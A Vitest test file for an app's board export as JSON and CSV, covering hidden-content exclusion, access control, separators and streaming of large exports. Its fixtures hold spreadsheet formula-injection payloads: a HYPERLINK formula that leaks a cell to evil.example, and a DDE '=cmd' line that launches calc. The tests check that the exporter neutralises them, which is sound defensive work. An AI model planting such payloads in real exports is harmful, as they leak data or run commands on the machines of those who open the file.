import { request as httpRequest } from 'node:http';
import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import { Compile } from 'typebox/compile';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ANALYSIS_QUESTION_BANK } from '@tavla/shared/analysis-questions';
import { BoardExportSchema, type BoardExport } from '@tavla/shared/board-export';
import type { Suggestion } from '@tavla/shared';
import type { App } from '../../app.js';
import type { Db } from '../../db/open-database.js';
import type { BoardRow } from '../boards/board-repository.js';
import {
  createBoard,
  createLead,
  joinPhone,
  manualClock,
  setupAdmin,
  testApp,
  testUuid,
} from '../../test-support/test-app.js';
import { csvOptions } from './csv-stream.js';
import { readableTime } from './export-service.js';

const AT = '2026-12-01T10:00:00.000Z';

interface Fixture {
  app: App;
  db: Db;
  board: BoardRow;
  english: BoardRow;
  admin: string;
  lead: string;
  otherLead: string;
  phone: string;
  ids: Record<string, string>;
}
let fx: Fixture;

async function inject(
  method: 'GET' | 'POST' | 'PUT',
  url: string,
  cookie: string,
  payload?: Record<string, unknown>,
) {
  const response = await fx.app.inject({
    method,
    url,
    headers: { cookie },
    ...(payload ? { payload } : {}),
  });
  if (response.statusCode >= 300) throw new Error(`${method} ${url}: ${response.body}`);
  return response;
}

async function post(board: BoardRow, cookie: string, text: string): Promise<Suggestion> {
  const response = await inject('POST', `/api/boards/${board.id}/suggestions`, cookie, {
    id: testUuid(),
    text,
    dimension: 'ecological',
    authorName: 'Anna',
  });
  return response.json<Suggestion>();
}

function userOf(cookie: string) {
  const user = fx.app.services.accounts.sessionUser(cookie.slice(cookie.indexOf('=') + 1));
  if (!user) throw new Error('not signed in');
  return user;
}

/**
 * A Swedish board with something in every section, hidden content included (which must not
 * come out), and an English board for the CSV's separators.
 */
beforeAll(async () => {
  const { app, db } = await testApp({ rateLimits: 'off', clock: manualClock(AT) });
  const board = createBoard(app, 'Linje 3 – Plåt & Svets', 'sv');
  const english = createBoard(app, 'Line 7', 'en');
  const admin = await setupAdmin(app);
  const lead = (await createLead(app, admin, [board.id, english.id], 'lead')).cookie;
  const otherBoard = createBoard(app, 'Other');
  const otherLead = (await createLead(app, admin, [otherBoard.id], 'other')).cookie;
  const phone = await joinPhone(app, board);
  const voter = await joinPhone(app, board);
  fx = { app, db, board, english, admin, lead, otherLead, phone, ids: {} };
  const base = `/api/boards/${board.id}`;
  const services = app.services;
  const leadUser = userOf(lead);

  // Suggestions: one decided with a comment (and a hidden comment), one hidden, and the
  // texts a spreadsheet would run as formulas.
  const decided = await post(board, phone, 'Automatiska skjutdörrar till frysrummet');
  await inject('PUT', `${base}/suggestions/${decided.id}/status`, lead, {
    status: 'planned',
    note: 'Vi beställer i januari',
  });
  await inject('PUT', `${base}/suggestions/${decided.id}/vote`, voter, { voted: true });
  await inject('POST', `${base}/suggestions/${decided.id}/comments`, voter, {
    id: testUuid(),
    text: 'Bra idé, "äntligen"; det drar kallt',
  });
  const rude = await inject('POST', `${base}/suggestions/${decided.id}/comments`, voter, {
    id: testUuid(),
    text: 'A HIDDEN RUDE COMMENT',
  });
  await inject(
    'POST',
    `${base}/suggestions/${decided.id}/comments/${rude.json<{ id: string }>().id}/hide`,
    lead,
    {
      reason: 'Inte okej här',
    },
  );
  const hidden = await post(board, phone, 'A HIDDEN SUGGESTION about someone');
  await inject('POST', `${base}/suggestions/${hidden.id}/hide`, lead, { reason: 'Personangrepp' });
  for (const text of [
    '=HYPERLINK("http://evil.example/?x="&A1;"Klicka")',
    '+1 stämmer inte',
    '-1+2 är fel',
    '@SUM(A1:A9) räknar',
    'Flera rader\nandra raden',
  ]) {
    await post(board, phone, text);
  }
  fx.ids.decided = decided.id;
  fx.ids.hidden = hidden.id;

  // A goal with measurements (one negative, one with a decimal), linked to the suggestion.
  const goal = services.goals.create(board, {
    title: 'Mindre energi per enhet',
    description: 'Energi är vår största kostnad.',
    dimension: 'ecological',
    focusArea: '',
    metric: 'Energi per enhet',
    unit: 'kWh',
    baselineValue: 12,
    baselineDate: '2026-09-01',
    targetValue: 9,
    direction: 'decrease',
    deadline: '2027-06-30',
    responsible: '',
    achievableConfirmed: true,
    achievableNote: '',
  });
  services.goals.setState(board, goal.id, 'active');
  services.goals.addMeasurement(board, leadUser, goal.id, { value: 11.5, date: '2026-10-01' });
  services.goals.addMeasurement(board, leadUser, goal.id, {
    value: -2.25,
    date: '2026-11-01',
    note: '=1+1 mätfel',
  });
  fx.ids.goal = goal.id;

  // An analysis round, answered and finished.
  const round = services.analysis.startRound(board, leadUser, 'Första analysen');
  const questionId = ANALYSIS_QUESTION_BANK.energy_climate[0]?.id ?? '';
  services.analysis.answer(board, leadUser, round.id, questionId, { value: 4, comment: 'Ok' });
  services.analysis.finish(board, leadUser, round.id);
  fx.ids.round = round.id;

  // An interest vote with dots, closed (which keeps its matrix).
  const vote = services.materiality.openVote(board, leadUser);
  await inject('PUT', `${base}/interest-votes/${vote.id}/dots`, voter, {
    dots: { energy_climate: 3, emissions: 2 },
  });
  services.voterCounts.flush();
  services.materiality.closeVote(board, leadUser, vote.id);
  fx.ids.vote = vote.id;

  // An announcement, acknowledged by one phone.
  const announcement = services.announcements.publish(board, leadUser, {
    kind: 'routine',
    title: 'Stäng frysdörren',
    text: 'Dörrarna stängs själva.',
    photoId: null,
    goalId: null,
    requiresAck: true,
    pinnedDays: 7,
  });
  await inject('POST', `${base}/announcements/${announcement.id}/acknowledgement`, voter, {
    version: 1,
  });
  services.ackCounts.flush();

  // A workshop session with a word cloud and an idea board, one of each entry hidden; a
  // board meeting; a follow-up with a hidden note; and an action (these straight into the
  // tables: their services are built elsewhere).
  const device = (
    db.prepare('SELECT device_id FROM device_boards LIMIT 1').get() as {
      device_id: string;
    }
  ).device_id;
  const activities = [
    { id: 'words', kind: 'wordcloud', title: 'Ett ord', text: '' },
    { id: 'ideas', kind: 'ideas', title: 'Idéer', text: '' },
  ];
  db.prepare(
    `INSERT INTO workshop_sessions (id, board_id, template_id, title, activities, started_at, ended_at)
     VALUES ('session-0001', ?, 'builtin-sustainability-sv', 'Kickoff', ?, ?, ?)`,
  ).run(board.id, JSON.stringify(activities), AT, AT);
  const word = db.prepare(
    `INSERT INTO workshop_words (session_id, activity_id, device_id, word_key, text, created_at)
     VALUES ('session-0001', 'words', ?, ?, ?, ?)`,
  );
  word.run(device, 'energi', 'Energi', AT);
  word.run(device, 'hiddenword', 'HIDDENWORD', AT);
  const idea = db.prepare(
    `INSERT INTO workshop_ideas (id, board_id, session_id, activity_id, device_id, text, dimension, created_at)
     VALUES (?, ?, 'session-0001', 'ideas', ?, ?, 'social', ?)`,
  );
  idea.run('idea-000001', board.id, device, 'Fika på fredagar', AT);
  idea.run('idea-000002', board.id, device, 'A HIDDEN IDEA', AT);
  const hide = db.prepare(
    `INSERT INTO workshop_hidden (session_id, activity_id, entry, hidden_at) VALUES ('session-0001', ?, ?, ?)`,
  );
  hide.run('words', 'hiddenword', AT);
  hide.run('ideas', 'idea-000002', AT);
  db.prepare(
    `INSERT INTO board_meetings (id, board_id, since, started_at, ended_at)
     VALUES ('meeting-0001', ?, '2026-11-24T10:00:00.000Z', ?, ?)`,
  ).run(board.id, AT, AT);
  db.prepare(
    `INSERT INTO follow_ups (id, board_id, kind, step, started_at, ended_at, learning, next_date)
     VALUES ('followup-0001', ?, 'monthly', 'learning', ?, ?, 'Kort möte fungerar', '2027-01-01')`,
  ).run(board.id, AT, AT);
  const note = db.prepare(
    `INSERT INTO follow_up_notes (id, follow_up_id, kind, text, device_id, created_at, hidden_at)
     VALUES (?, 'followup-0001', ?, ?, ?, ?, ?)`,
  );
  note.run(testUuid(), 'went_well', 'Dörrarna kom på plats', device, AT, null);
  note.run(testUuid(), 'do_better', 'A HIDDEN NOTE', device, AT, AT);
  db.prepare(
    `INSERT INTO actions (id, board_id, follow_up_id, text, owner, due_date, state, created_at)
     VALUES ('action-0001', ?, 'followup-0001', '=cmd|'' /C calc''!A0', 'Kim', '2026-12-15', 'open', ?)`,
  ).run(board.id, AT);
});

afterAll(async () => {
  await fx.app.close();
});

const exportUrl = (board: BoardRow) => `/api/boards/${board.id}/export.json`;
const csvUrl = (board: BoardRow, table: string) => `/api/boards/${board.id}/export/${table}.csv`;

describe('GET /api/boards/:boardId/export.json', () => {
  let body = '';
  let document: BoardExport;

  beforeAll(async () => {
    const response = await inject('GET', exportUrl(fx.board), fx.lead);
    expect(response.headers['content-type']).toBe('application/json; charset=utf-8');
    expect(response.headers['content-disposition']).toBe(
      'attachment; filename="linje-3-plat-svets-export-2026-12-01.json"',
    );
    body = response.body;
    document = JSON.parse(body) as BoardExport;
  });

  it('is valid JSON of the documented shape, with every section', () => {
    const check = Compile(BoardExportSchema);
    expect([...check.Errors(document)].slice(0, 3)).toEqual([]);
    expect(Object.keys(document)).toEqual(Object.keys(BoardExportSchema.properties));
    expect(document.board).toMatchObject({ id: fx.board.id, language: 'sv', employees: null });
    for (const section of [
      'suggestions',
      'goals',
      'analysisRounds',
      'interestVotes',
      'matrices',
      'workshopSessions',
      'announcements',
      'meetings',
      'followUps',
      'actions',
    ] as const) {
      expect(document[section].length, section).toBeGreaterThan(0);
    }
  });

  it('holds each suggestion with its history, counts and visible comments', () => {
    const decided = document.suggestions.find((s) => s.id === fx.ids.decided);
    expect(decided).toMatchObject({
      status: 'planned',
      votes: 1,
      comments: 1,
      history: [{ from: 'new', to: 'planned', note: 'Vi beställer i januari' }],
    });
    expect(decided?.thread.map((c) => c.text)).toEqual(['Bra idé, "äntligen"; det drar kallt']);
    expect(document.suggestions.map((s) => s.text)).toContain('Flera rader\nandra raden');
  });

  it('holds goals with measurements, the analysis, votes, matrices, workshops and step 7', () => {
    expect(document.goals[0]?.measurements.map((m) => m.value)).toEqual([11.5, -2.25]);
    const round = document.analysisRounds[0];
    expect(round?.round.id).toBe(fx.ids.round);
    expect(round?.answers[0]).toMatchObject({ value: 4, comment: 'Ok' });
    expect(round?.answers[0]?.question.length).toBeGreaterThan(5);
    expect(round?.round.scores.length).toBe(15);
    expect(document.interestVotes[0]).toMatchObject({
      id: fx.ids.vote,
      voters: 1,
      dots: 5,
      categories: [
        { categoryId: 'energy_climate', dots: 3 },
        { categoryId: 'emissions', dots: 2 },
      ],
    });
    expect(document.matrices[0]?.voteId).toBe(fx.ids.vote);
    expect(document.matrices[0]?.points.length).toBe(15);
    const session = document.workshopSessions[0];
    expect(session?.activities.find((a) => a.activity.id === 'words')?.words).toEqual([
      { key: 'energi', text: 'Energi', count: 1 },
    ]);
    expect(
      session?.activities.find((a) => a.activity.id === 'ideas')?.ideas?.map((i) => i.text),
    ).toEqual(['Fika på fredagar']);
    expect(document.announcements[0]).toMatchObject({ title: 'Stäng frysdörren', acks: 1 });
    expect(document.meetings[0]?.id).toBe('meeting-0001');
    expect(document.followUps[0]).toMatchObject({ learning: 'Kort möte fungerar' });
    expect(document.followUps[0]?.notes.map((n) => n.text)).toEqual(['Dörrarna kom på plats']);
    expect(document.followUps[0]?.newActions[0]?.owner).toBe('Kim');
    expect(document.actions[0]).toMatchObject({ id: 'action-0001', owner: 'Kim', state: 'open' });
  });

  it('leaves hidden content and devices out', () => {
    expect(body).not.toContain('HIDDEN');
    expect(body).not.toContain(fx.ids.hidden);
    expect(body).not.toContain('Personangrepp');
    expect(body).not.toContain('Inte okej här');
    const devices = fx.db.prepare('SELECT id FROM devices').all() as { id: string }[];
    expect(devices.length).toBeGreaterThan(0);
    for (const { id } of devices) expect(body).not.toContain(id);
    expect(body).not.toContain(fx.board.join_token);
    expect(body).not.toContain(fx.board.display_key);
  });

  it('refuses phones, the wall, a lead of another board; lets an admin in', async () => {
    const url = exportUrl(fx.board);
    const status = async (headers: Record<string, string>) =>
      (await fx.app.inject({ method: 'GET', url, headers })).statusCode;
    expect(await status({ cookie: fx.phone })).toBe(401);
    expect(await status({ 'x-display-key': fx.board.display_key })).toBe(401);
    expect(await status({ cookie: fx.otherLead })).toBe(403);
    expect(await status({})).toBe(401);
    expect(await status({ cookie: fx.admin })).toBe(200);
  });
});

describe('GET /api/boards/:boardId/export/:table.csv', () => {
  const csv = async (board: BoardRow, table: string) => {
    const response = await inject('GET', csvUrl(board, table), fx.lead);
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
    return response;
  };

  it('is UTF-8 with a BOM, `;`-separated with the header in Swedish for a Swedish board', async () => {
    const response = await csv(fx.board, 'suggestions');
    expect(response.headers['content-disposition']).toBe(
      `attachment; filename="linje-3-plat-svets-suggestions-2026-12-01.csv"`,
    );
    expect(response.rawPayload.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    const text = response.rawPayload.toString('utf8');
    expect(text.slice(1).split('\r\n')[0]).toBe(
      'Id;Skapad;Text;Dimension;Status;Status ändrad;Motivering;Namn;Jag också;Kommentarer;Mål;Foto',
    );
    const rows = parse<Record<string, string>>(text, { bom: true, delimiter: ';', columns: true });
    expect(rows).toHaveLength(6);
    const decided = rows.find((row) => row.Id === fx.ids.decided);
    expect(decided).toMatchObject({
      Status: 'Planerad',
      'Jag också': '1',
      Kommentarer: '1',
      Namn: 'Anna',
      Foto: 'nej',
      Skapad: readableTime(AT),
    });
    expect(decided?.Skapad).toMatch(/^\d{4}-\d{2}-\d{2} \d{2}:\d{2}$/);
    // Quotes, the separator and a line break inside a cell survive the round trip.
    expect(rows.map((row) => row.Text)).toContain('Flera rader\nandra raden');
    expect(text).not.toContain('HIDDEN');
  });

  it('neutralises formulas: texts that Excel would run start with an apostrophe', async () => {
    const text = (await csv(fx.board, 'suggestions')).rawPayload.toString('utf8');
    const cells = parse<{ Text: string }>(text, { bom: true, delimiter: ';', columns: true }).map(
      (row) => row.Text,
    );
    expect(cells).toEqual(
      expect.arrayContaining([
        `'=HYPERLINK("http://evil.example/?x="&A1;"Klicka")`,
        "'+1 stämmer inte",
        "'-1+2 är fel",
        "'@SUM(A1:A9) räknar",
      ]),
    );
    expect(cells.filter((cell) => /^[=+\-@]/.test(cell))).toEqual([]);
  });

  it('keeps numbers numeric (decimal comma in Swedish), and formulas out of notes', async () => {
    const text = (await csv(fx.board, 'measurements')).rawPayload.toString('utf8');
    expect(text.slice(1).split('\r\n')[0]).toBe(
      'Mål;Enhet;Datum;Värde;Anteckning;Registrerad av;Skapad',
    );
    const rows = parse<Record<string, string>>(text, { bom: true, delimiter: ';', columns: true });
    expect(rows.map((row) => [row.Datum, row.Värde, row.Anteckning])).toEqual([
      ['2026-10-01', '11,5', ''],
      ['2026-11-01', '-2,25', "'=1+1 mätfel"],
    ]);
    // Written bare: Excel reads `-2,25` as a number, not as a formula or a text.
    expect(text).toContain(';-2,25;');
  });

  it('writes actions with their state in the board’s language', async () => {
    const text = (await csv(fx.board, 'actions')).rawPayload.toString('utf8');
    const rows = parse<Record<string, string>>(text, { bom: true, delimiter: ';', columns: true });
    expect(rows).toEqual([
      {
        Skapad: readableTime(AT),
        Text: "'=cmd|' /C calc'!A0",
        Ansvarig: 'Kim',
        'Klart senast': '2026-12-15',
        Läge: 'Öppen',
        Avslutad: '',
        Uppföljning: '2026-12-01',
      },
    ]);
  });

  it('is `,`-separated with an English header for an English board', async () => {
    const phone = await joinPhone(fx.app, fx.english);
    await post(fx.english, phone, 'Shorter changeovers, "less waste"');
    const text = (await csv(fx.english, 'suggestions')).rawPayload.toString('utf8');
    expect(text.slice(1).split('\r\n')[0]).toBe(
      'Id,Created,Text,Dimension,Status,Status changed,Reason,Name,Me too,Comments,Goal,Photo',
    );
    expect(text).toContain('"Shorter changeovers, ""less waste"""');
    const rows = parse<Record<string, string>>(text, { bom: true, columns: true });
    expect(rows[0]).toMatchObject({ Text: 'Shorter changeovers, "less waste"', Status: 'New' });
  });

  it('answers 400 for a table it does not export, and refuses who may not export', async () => {
    const url = csvUrl(fx.board, 'devices');
    const refused = await fx.app.inject({ method: 'GET', url, headers: { cookie: fx.lead } });
    expect(refused.statusCode).toBe(400);
    const status = async (headers: Record<string, string>) =>
      (await fx.app.inject({ method: 'GET', url: csvUrl(fx.board, 'actions'), headers }))
        .statusCode;
    expect(await status({ cookie: fx.phone })).toBe(401);
    expect(await status({ 'x-display-key': fx.board.display_key })).toBe(401);
    expect(await status({ cookie: fx.otherLead })).toBe(403);
    expect(await status({ cookie: fx.admin })).toBe(200);
  });
});

describe('csvOptions', () => {
  const columns = [
    { key: 'text', header: 'Text' },
    { key: 'value', header: 'Value' },
  ];
  const write = (language: 'sv' | 'en', rows: Record<string, string | number | null>[]) =>
    stringify(rows, csvOptions(language, columns));

  it('prefixes every cell Excel would take as a formula, texts only', () => {
    const cells = ['=1+1', '+1', '-1+2', '@SUM(A1)', '\tTAB', '\rCR', 'plain', '1-2'];
    const out = write(
      'en',
      cells.map((text) => ({ text, value: -3.5 })),
    );
    const rows = parse<{
      Text: string;
      Value: string;
    }>(out, { bom: true, columns: true, relax_quotes: true });
    expect(rows.map((row) => row.Text)).toEqual([
      "'=1+1",
      "'+1",
      "'-1+2",
      "'@SUM(A1)",
      "'\tTAB",
      "'\rCR",
      'plain',
      '1-2',
    ]);
    expect(new Set(rows.map((row) => row.Value))).toEqual(new Set(['-3.5']));
  });

  it('quotes separators, quotes and line breaks, by the language’s separator', () => {
    const row = { text: 'a;b,"c"\nd', value: 1.25 };
    expect(write('sv', [row])).toBe('\ufeffText;Value\r\n"a;b,""c""\nd";1,25\r\n');
    expect(write('en', [row])).toBe('\ufeffText,Value\r\n"a;b,""c""\nd",1.25\r\n');
  });
});

describe('a large export', () => {
  it('streams every row once, in order, and answers other requests while a download is under way', async () => {
    const { app, db } = await testApp({ rateLimits: 'off' });
    try {
      const board = createBoard(app, 'Big board');
      const admin = await setupAdmin(app);
      const insert = db.prepare(
        `INSERT INTO suggestions (id, board_id, text, dimension, created_at, updated_at,
                                  status_changed_at, seq)
         VALUES (?, ?, ?, 'social', ?, ?, ?, 1)`,
      );
      const rows = 5000;
      db.transaction(() => {
        for (let i = 0; i < rows; i += 1) {
          const at = new Date(Date.UTC(2026, 0, 1) + i * 60_000).toISOString();
          insert.run(testUuid(), board.id, `Suggestion number ${String(i)}`, at, at, at);
        }
      })();
      await app.listen({ port: 0, host: '127.0.0.1' });
      const address = app.server.address();
      if (!address || typeof address === 'string') throw new Error('no address');
      const base = `http://127.0.0.1:${String(address.port)}`;

      // The export is read slowly (paused after its first bytes): a health request sent then
      // is answered while the export is still under way.
      const events: string[] = [];
      const exported = new Promise<string>((resolve, reject) => {
        const req = httpRequest(`${base}/api/boards/${board.id}/export/suggestions.csv`, {
          headers: { cookie: admin },
        });
        req.on('response', (response) => {
          const chunks: Buffer[] = [];
          let asked = false;
          response.on('data', (chunk: Buffer) => {
            chunks.push(chunk);
            if (asked) return;
            asked = true;
            response.pause();
            events.push('export started');
            void fetch(`${base}/api/health`).then((health) => {
              events.push(`health ${String(health.status)}`);
              response.resume();
            }, reject);
          });
          response.on('end', () => {
            events.push('export ended');
            resolve(Buffer.concat(chunks).toString('utf8'));
          });
        });
        req.on('error', reject);
        req.end();
      });
      const text = await exported;
      expect(events).toEqual(['export started', 'health 200', 'export ended']);
      const parsed = parse<{
        Text: string;
      }>(text, { bom: true, delimiter: ';', columns: true });
      expect(parsed).toHaveLength(rows);
      expect(parsed[0]?.Text).toBe('Suggestion number 0');
      expect(parsed.at(-1)?.Text).toBe(`Suggestion number ${String(rows - 1)}`);

      // And the JSON: every suggestion once, in order, across pages.
      const json = await fetch(`${base}/api/boards/${board.id}/export.json`, {
        headers: { cookie: admin },
      });
      const document = (await json.json()) as BoardExport;
      expect(document.suggestions).toHaveLength(rows);
      expect(new Set(document.suggestions.map((s) => s.id)).size).toBe(rows);
      expect(document.suggestions[1000]?.text).toBe('Suggestion number 1000');
    } finally {
      await app.close();
    }
  });

  it('yields between pages: work queued as it starts runs before it ends', async () => {
    const { app, db } = await testApp({ rateLimits: 'off' });
    try {
      const board = createBoard(app, 'Big board');
      const insert = db.prepare(
        `INSERT INTO suggestions (id, board_id, text, dimension, created_at, updated_at,
                                  status_changed_at, seq)
         VALUES (?, ?, 'Text', 'social', ?, ?, ?, 1)`,
      );
      db.transaction(() => {
        for (let i = 0; i < 3000; i += 1) insert.run(testUuid(), board.id, AT, AT, AT);
      })();
      // Read straight from the generator: each page is followed by a turn of the event loop,
      // in which a timer set before the export started gets to run.
      const order: string[] = [];
      setImmediate(() => order.push('other work'));
      const parts: string[] = [];
      for await (const part of app.services.boardExport.json(board)) {
        if (parts.length === 0) order.push('first part');
        parts.push(part);
      }
      order.push('export done');
      expect(order).toEqual(['first part', 'other work', 'export done']);
      expect((JSON.parse(parts.join('')) as BoardExport).suggestions).toHaveLength(3000);
    } finally {
      await app.close();
    }
  });
});
